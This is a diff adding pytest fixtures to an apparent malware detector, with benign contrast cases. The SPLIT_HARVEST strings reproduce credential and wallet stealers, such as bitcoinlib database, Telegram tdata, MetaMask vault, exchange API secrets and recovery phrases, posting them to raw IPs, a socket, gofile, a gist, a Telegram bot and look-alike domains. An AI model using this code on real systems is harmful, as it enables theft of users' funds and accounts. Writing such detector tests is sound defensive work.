@@ -62,3 +62,146 @@ HELPER_LOOKALIKES = {
 @pytest.mark.parametrize("name", sorted(HELPER_LOOKALIKES))
 def test_helper_lookalikes_are_clean(name):
     assert found(HELPER_LOOKALIKES[name]) == []
+
+
+# -- 2. harvest and exfiltration split across the module's functions, threads and exit hooks ----
+
+TOKEN = f"{6000000000 + 777}:AAE{'Qz8w' * 8}"  # fake, of the right shape
+
+SPLIT_HARVEST = {
+    # bitcoinlibdbfix (ReversingLabs 2025-04): path, copy and upload in three functions
+    "wallet_db_helpers": '''import os, shutil, requests
+def _db_path():
+    return os.path.join(os.path.expanduser("~"), ".bitcoinlib", "database", "bitcoinlib.sqlite")
+def _upload(path):
+    with open(path, "rb") as fh:
+        requests.post("http://185.196.8.112/up", files={"f": fh})
+def apply_fix():
+    shutil.copy2(_db_path(), "/tmp/x.bak")
+    _upload("/tmp/x.bak")
+''',
+    # solana-token (ReversingLabs 2025-05): the stack read in one helper, sent from another
+    "stack_sources_helpers": '''import pathlib, traceback, requests
+COLLECTOR = "http://45.131.66.204:8080/t"
+def _sources():
+    return {f.filename: pathlib.Path(f.filename).read_text() for f in traceback.extract_stack()}
+def _post(data):
+    requests.post(COLLECTOR, json=data)
+def register():
+    _post(_sources())
+''',
+    # Telegram sessions posted to a gist (Stacklok 2024)
+    "tdata_gist": '''import os, pathlib, requests
+def _files():
+    return list((pathlib.Path(os.environ["APPDATA"]) / "Telegram Desktop" / "tdata").glob("*"))
+def sync():
+    files = {p.name: {"content": p.read_bytes().hex()} for p in _files()}
+    requests.post("https://api.github.com/gists", json={"files": files})
+''',
+    # vault folders copied and uploaded with curl (Checkmarx 2023)
+    "vaults_curl": '''import os, shutil, subprocess
+def run():
+    src = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default",
+                       "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn")
+    shutil.copytree(src, "/tmp/v")
+    subprocess.run(["curl", "-F", "file=@/tmp/v.zip", "https://store1.gofile.io/uploadFile"])
+''',
+    # hummingbot conf/ zipped in a method, posted to the author's chat in another (Kaspersky 2024)
+    "conf_zip_fixed_chat": f'''import glob, zipfile, requests
+_A = "{TOKEN[:10]}"
+_B = "{TOKEN[10:]}"
+class Backup:
+    def _archive(self):
+        with zipfile.ZipFile("/tmp/c.zip", "w") as zf:
+            for f in glob.glob("conf/**/*.yml", recursive=True):
+                zf.write(f)
+        return "/tmp/c.zip"
+    def push(self):
+        path = self._archive()
+        url = "https://api.telegram.org/bot" + _A + _B + "/sendDocument"
+        requests.post(url, data={{"chat_id": "1"}}, files={{"document": open(path, "rb")}})
+''',
+    # exchange keys read off the client at exit, to a look-alike (ReversingLabs 2024)
+    "client_secret_atexit": '''import atexit, ccxt, requests
+def _beacon(ex):
+    requests.post("https://api-binance-sync.com/v1/hb", json={"k": ex.apiKey, "s": ex.secret})
+def make(key, secret):
+    ex = ccxt.binance({"apiKey": key, "secret": secret})
+    atexit.register(_beacon, ex)
+    return ex
+''',
+    # the client's secret handed to a thread that writes it to a raw socket (Kaspersky 2024)
+    "client_secret_thread_socket": '''import json, socket, threading
+def _send(blob):
+    s = socket.create_connection(("91.92.109.14", 4444))
+    s.sendall(blob)
+def track(self):
+    blob = json.dumps({"k": self.exchange.apiKey, "s": self.exchange.secret}).encode()
+    threading.Thread(target=_send, args=(blob,)).start()
+''',
+    # wallet-recovery phishing (Phylum 2024): the typed phrase to a look-alike
+    "typed_recovery_phrase": '''import getpass, requests
+def main():
+    words = getpass.getpass("Enter your 12 or 24 word recovery phrase: ")
+    requests.post("https://metamask-verify-sync.com/api/restore", json={"phrase": words})
+''',
+}
+
+
+@pytest.mark.parametrize("name", sorted(SPLIT_HARVEST))
+def test_split_harvest_is_found(name):
+    assert "BOT504" in codes(SPLIT_HARVEST[name])
+
+
+SPLIT_LOOKALIKES = {
+    # a wallet loaded to sign, fills sent to the user's own chat: same main(), nothing harvested
+    "keystore_and_notify": '''import json, os, requests
+def load_wallet():
+    with open(os.path.expanduser("~/.ethereum/keystore/UTC--x.json"), "rb") as fh:
+        return json.load(fh)
+def notify(text):
+    requests.post(f"https://api.telegram.org/bot{os.environ['TG']}/sendMessage", json={"text": text})
+def main():
+    w = load_wallet()
+    notify(f"loaded {w['address']}")
+''',
+    # user_data zipped and sent to the user's configured chat
+    "backup_to_own_chat": '''import glob, os, zipfile, requests
+def archive():
+    with zipfile.ZipFile("b.zip", "w") as zf:
+        for f in glob.glob("user_data/*.json"):
+            zf.write(f)
+    return "b.zip"
+def push(cfg):
+    path = archive()
+    requests.post(f"https://api.telegram.org/bot{cfg['token']}/sendDocument", files={"document": open(path, "rb")})
+''',
+    # the exchange's own API gets the signature, not a collector
+    "client_secret_to_exchange": '''import hmac, requests
+def sign(ex, q):
+    return hmac.new(ex.secret.encode(), q.encode(), "sha256").hexdigest()
+def order(ex, q):
+    requests.post("https://api.binance.com/api/v3/order?" + q + "&signature=" + sign(ex, q),
+                  headers={"X-MBX-APIKEY": ex.apiKey})
+''',
+    "password_prompt_to_own_api": '''import getpass, requests
+def login(user):
+    pw = getpass.getpass("Dashboard password: ")
+    return requests.post("https://api.probot-trading.com/v1/login", json={"user": user, "password": pw})
+''',
+    "thread_with_a_price": '''import threading, requests
+def _send(price):
+    requests.post("https://api-binance-sync.com/v1/p", json={"p": price})
+def tick(self):
+    threading.Thread(target=_send, args=(self.exchange.last_price,)).start()
+''',
+    "curl_download_only": '''import subprocess
+def fetch_data():
+    subprocess.run(["curl", "-sSL", "-o", "data/ohlcv.csv", "https://data.binance.vision/x.csv"])
+''',
+}
+
+
+@pytest.mark.parametrize("name", sorted(SPLIT_LOOKALIKES))
+def test_split_harvest_lookalikes_are_clean(name):
+    assert found(SPLIT_LOOKALIKES[name]) == []
